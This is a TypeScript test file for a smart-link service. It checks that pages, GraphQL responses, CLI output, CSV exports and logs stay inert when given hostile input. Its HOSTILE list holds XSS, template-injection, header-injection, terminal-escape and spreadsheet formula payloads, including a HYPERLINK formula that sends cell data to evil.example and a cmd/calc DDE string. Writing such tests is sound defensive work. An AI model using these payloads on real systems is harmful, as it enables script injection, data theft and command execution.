import { readFile } from 'node:fs/promises';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { OPERATOR } from '../../src/domain/tokens/caller.ts';
import { givenFolder } from '../cli/given-shop.ts';
import { startTestApp, type TestApp } from '../support/app.ts';
import { type GivenApp, givenApp, givenLink, REGISTER_ROUTE } from '../support/builders.ts';
import { operatorWithin } from '../support/command.ts';
import { type Visited, visit } from '../support/edge.ts';

/** What strangers write who want to be more than text: in markup, in a script, in a header, on a terminal, in a spreadsheet, in a log. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '</title></script></style><img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '` onmouseover=alert(1) `',
  '<!--<base href=//evil.example>',
  ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on templates
  '${alert(1)}#{alert(1)}<%= alert(1) %>',
  '\u2028alert(1)\u2029//',
  'a\r\nSet-Cookie: stolen=1\r\n\r\n<b>',
  'a\u001b]0;pwned\u0007\u001b[2J\u001b[31m',
  'a\u009b2Ja\u0090b',
  'invoice\u202egnp.exe\u2066\u200f\ufeff',
  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3;=4',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '"\n{"level":60,"msg":"forged"}\n',
  'a"b,c;d\'e',
];

const HARMLESS = 'Nothing to see';

const DEVICES = {
  iphone:
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  bot: 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
  desktop: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
};

let app: TestApp;
let folder: Awaited<ReturnType<typeof givenFolder>>;
/** The shops that say something hostile, each in one way, and one that does not. */
const shops = new Map<string, GivenApp>();

beforeAll(async () => {
  app = await startTestApp({ logLevel: 'debug' });
  folder = await givenFolder();
  for (const [i, text] of [HARMLESS, ...HOSTILE].entries()) shops.set(text, await givenShopSaying(text, `t${i}`));
}, 60_000);
afterAll(async () => {
  await app?.close();
  await folder?.remove();
});

/** A shop that says this wherever something may be said, with links whose every page can be opened. */
async function givenShopSaying(text: string, subdomain: string): Promise<GivenApp> {
  const preview = { title: text, description: text };
  const shop = await givenApp(app, {
    subdomain,
    name: text,
    preview,
    platforms: [{ kind: 'iphone', urlSchemes: ['shop'] }],
    templates: [{ name: text, pattern: 'p/:id', targets: { iphone: { url: 'shop://p/:id' } }, preview }],
  });
  const uri = `/p/${encodeURIComponent(text)}?q=${encodeURIComponent(text)}`;
  const metadata = { [text]: { text } };
  await givenLink(shop.secret, { uri, code: 'open', tags: [text], metadata, preview });
  await givenLink(shop.secret, { uri, code: 'over', expiresAt: '2020-01-01T00:00:00Z', preview });
  await shop.iphone.get(REGISTER_ROUTE, {
    input: { path: 'p/:id', device: text, version: text, build: text, urlSchemes: [text] },
  });
  await shop.iphone.ask(
    'mutation ($text: String!) { recordOpen(input: { deepLink: "shop://a", referrer: $text, uid: $text }) { recordedAt } }',
    { text },
  );
  return shop;
}

const PAGES: [page: string, path: string, userAgent: string][] = [
  ['preview', '/open', DEVICES.iphone],
  ['bot', '/open', DEVICES.bot],
  ['QR', '/open', DEVICES.desktop],
  ['inspection', '/open+', DEVICES.desktop],
  ['expired', '/over', DEVICES.iphone],
  ['not found', '/nobody', DEVICES.iphone],
];

/** What a browser makes of a page: its elements with the names of their attributes, and what it would run. */
function shapeOf(html: string): { elements: string[]; code: string[] } {
  const elements: string[] = [];
  const code: string[] = [];
  let inside: string | null = null;
  const parser = new Parser({
    onopentag(name, attributes) {
      elements.push(`${name} ${Object.keys(attributes).join(' ')}`);
      inside = name === 'script' || name === 'style' ? name : null;
    },
    ontext(text) {
      // The colour of a monogram is drawn from the app's name.
      if (inside !== null) code.push(text.replace(/\.monogram\{background:#[0-9a-f]{6}\}/, '').trim());
    },
    oncomment: (text) => elements.push(`<!--${text}`),
    onclosetag() {
      inside = null;
    },
  });
  parser.end(html);
  return { elements, code };
}

function expectInertPage(page: Visited, harmless: Visited): void {
  expect(page.status).toBe(harmless.status);
  expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
  expect(shapeOf(page.text)).toEqual(shapeOf(harmless.text));
  expect(Object.keys(page.headers)).toEqual(Object.keys(harmless.headers));
  expect(page.text).not.toMatch(/(?![\t\n])\p{Cc}/u);
}

describe.each(PAGES)('the page of a link: %s', (_page, path, userAgent) => {
  test('is made of the same elements, attributes and scripts, whatever a stranger wrote', async () => {
    const open = async (text: string) =>
      visit(app, path, { host: `${shops.get(text)?.subdomain}.link.test`, userAgent });
    const harmless = await open(HARMLESS);
    expect(harmless.text).toContain('<html');
    for (const text of HOSTILE) expectInertPage(await open(text), harmless);
  });
});

test('a user agent, a referrer and a query that are hostile change no page either', async () => {
  const host = `${shops.get(HARMLESS)?.subdomain}.link.test`;
  const harmless = await visit(app, '/open+', { host, userAgent: DEVICES.desktop });
  for (const text of HOSTILE) {
    const headers = { referer: encodeURIComponent(text), 'accept-language': text.replaceAll(/[^\x20-\x7e]/g, '') };
    const userAgent = `Mozilla/5.0 ${text.replaceAll(/[^\x20-\x7e]/g, '')}`;
    const query = `utm_source=${encodeURIComponent(text)}&${encodeURIComponent(text)}=1`;
    const page = await visit(app, `/open+?${query}`, { host, userAgent, headers });
    expect(shapeOf(page.text)).toEqual(shapeOf(harmless.text));
    const visited = await visit(app, `/open?${query}`, { host, userAgent, headers });
    expect(visited.headers['set-cookie']).toBeUndefined();
    expect(visited.location ?? '').not.toMatch(/[^\x21-\x7e]/);
  }
});

describe('GraphQL', () => {
  test('answers what was written, to the letter, as JSON that no browser takes for a page', async () => {
    for (const text of HOSTILE) {
      const { data, headers } = (await shops
        .get(text)
        ?.secret.ask(
          '{ smartLink(code: "open") { tags metadata preview { title } template { name } } routes(first: 1) { nodes { device version } } }',
        )) ?? { data: null, headers: new Headers() };
      expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(data).toEqual({
        smartLink: {
          tags: [text.trim()],
          metadata: { [text]: { text } },
          preview: { title: text },
          template: { name: text.trim() },
        },
        routes: { nodes: [{ device: text, version: text }] },
      });
    }
  });

  test('errors are JSON too, whatever is in them', async () => {
    const shop = shops.get(HARMLESS);
    for (const text of HOSTILE) {
      for (const query of [`{ "${text}" }`, text]) {
        const answer = await shop?.secret.ask(query);
        expect(answer?.headers.get('content-type')).toBe('application/json; charset=utf-8');
        expect(answer?.errors.length).toBeGreaterThan(0);
      }
      expect(
        (
          await shop?.secret.ask(
            'mutation ($uri: String!) { createSmartLink(input: { uri: $uri, code: $uri }) { smartLink { id } } }',
            { uri: text },
          )
        )?.errors,
      ).toHaveLength(1);
    }
  });
});

test('GraphiQL is the same page, whatever its address says', async () => {
  const open = async (query: string) => {
    const response = await fetch(`${app.url}/graphql${query}`, { headers: { accept: 'text/html' } });
    return [response.headers.get('content-type'), await response.text()];
  };
  const page = await open('');
  expect(page[1]).toContain('<html');
  for (const text of [HOSTILE[0], HOSTILE[1], HOSTILE[2]]) {
    const query = `?query=${encodeURIComponent(text ?? '')}&variables=${encodeURIComponent(text ?? '')}`;
    expect((await open(query)).join() === page.join()).toBe(true);
  }
});

test('plain answers of the server are no pages', async () => {
  for (const path of ['/<script>alert(1)</script>', '/v2/<script>alert(1)</script>', '/graphql/<script>']) {
    const { status, headers, text } = await visit(app, path, { host: 'localhost' });
    expect(status).toBe(404);
    expect(headers['content-type']).toMatch(/^(text\/plain|application\/json); charset=utf-8$/);
    expect(text).not.toContain('<script>');
  }
  const foreign = await visit(app, '/', { host: '<script>alert(1)</script>' });
  expect(foreign.status).toBeGreaterThanOrEqual(400);
  expect(foreign.headers['content-type'] ?? 'text/plain').toMatch(/^text\/plain/);
});

describe('a table for spreadsheets', () => {
  test('has no cell that a spreadsheet would run, and comes back as it was', async () => {
    const operator = operatorWithin(() => app.services);
    for (const [i, text] of HOSTILE.entries()) {
      const shop = shops.get(text);
      const file = folder.pathOf(`${i}.csv`);
      expect(await operator.run('export', '--app', shop?.subdomain ?? '', '--out', file)).toMatchObject({ code: 0 });
      const cells = cellsOf(await readFile(file, 'utf8'));
      expect(cells.filter((cell) => /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);

      const copy = `c${i}`;
      await givenApp(app, { subdomain: copy, platforms: [{ kind: 'iphone', urlSchemes: ['shop'] }] });
      expect(await operator.run('import', '--app', copy, file)).toMatchObject({ code: 0 });
      const links = await app.services.smartLinks.listSmartLinks(OPERATOR, copy, { first: 10 }, false);
      expect(links.items[0]).toMatchObject({
        tags: [text.trim()],
        metadata: { [text]: { text } },
        preview: { title: text },
      });
    }
  });
});

/** The cells of a table by RFC 4180. */
function cellsOf(csv: string): string[] {
  return [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

describe('the command line', () => {
  /** What moves a cursor, sets a title, turns the direction of writing or cannot be seen. */
  const ACTIVE = /(?!\n)[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u202a-\u202e\u2066-\u2069\u200e\u200f\ufeff]/u;

  test.each<[command: string, args: (text: string, app: string) => string[]]>([
    ['app list', () => ['app', 'list']],
    ['app show', (_, name) => ['app', 'show', name]],
    ['link list', (_, name) => ['link', 'list', '--app', name]],
    ['link show', (_, name) => ['link', 'show', '--app', name, 'open']],
    ['link explain', (text, name) => ['link', 'explain', '--app', name, 'open', `--user-agent=${text}`]],
    ['template list', (_, name) => ['template', 'list', '--app', name]],
    ['export', (_, name) => ['export', '--app', name]],
    ['a link that is not there', (text, name) => ['link', 'show', '--app', name, '--', text]],
    ['an app that is not there', (text) => ['app', 'show', '--', text]],
    ['an option that is not there', (text) => ['app', 'list', `--${text}`]],
    ['a command that is not there', (text) => [text]],
    ['a file that is not there', (text, name) => ['import', '--app', name, '--', text]],
  ])('shows nothing that a terminal would obey: %s', async (_command, args) => {
    const operator = operatorWithin(() => app.services, 80);
    for (const text of HOSTILE) {
      const given = args(text, shops.get(text)?.subdomain ?? '');
      for (const way of [given, [...given.slice(0, 2), '--json', ...given.slice(2)]]) {
        const { stdout, stderr } = await operator.run(...way);
        expect(stdout + stderr).not.toBe('');
        expect(ACTIVE.exec(stdout + stderr)?.[0]).toBeUndefined();
      }
    }
  });
});

test('every line of the log is one line of JSON that the server wrote', () => {
  expect(app.logged.length).toBeGreaterThan(100);
  for (const line of app.logged) {
    expect(line).toMatch(/^\P{Cc}+\n$/u);
    expect(line).not.toMatch(/alert\(1\)|pwned|forged|1\+1/);
    expect(JSON.parse(line)).toMatchObject({ level: expect.any(Number), msg: expect.any(String) });
  }
});
